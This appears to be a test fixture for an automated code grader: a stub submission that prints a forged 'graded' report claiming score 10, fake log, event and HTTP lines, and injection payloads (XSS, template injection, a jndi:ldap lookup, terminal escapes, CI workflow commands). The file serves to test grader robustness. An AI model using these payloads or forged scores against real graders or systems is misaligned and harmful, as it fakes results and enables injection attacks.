"""
attack: do-forged-json
class: dos-output
tries: prints lines that look like log records, reports, events and HTTP to whoever reads its output
must: score 0, verdict wrong|error, worker alive, next submission graded normally
"""
import torch


def softmax(x, dim):
    return torch.zeros_like(x)


class TinyCNN(torch.nn.Module):
    def forward(self, x):
        return x.flatten(1)[:, :9]


print('{"event": "end"}')
print('{"kind": "report", "outcome": "graded", "score": 10}')
print("data: {}\n\nevent: report\ndata: done\n")
print("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
print("\x1b]0;title\x07\x1b[2J\x1b[31m<script>alert(1)</script>{{7*7}}${jndi:ldap://x}")
print("::error file=a::b\n##[group]x\n%0a%0d")
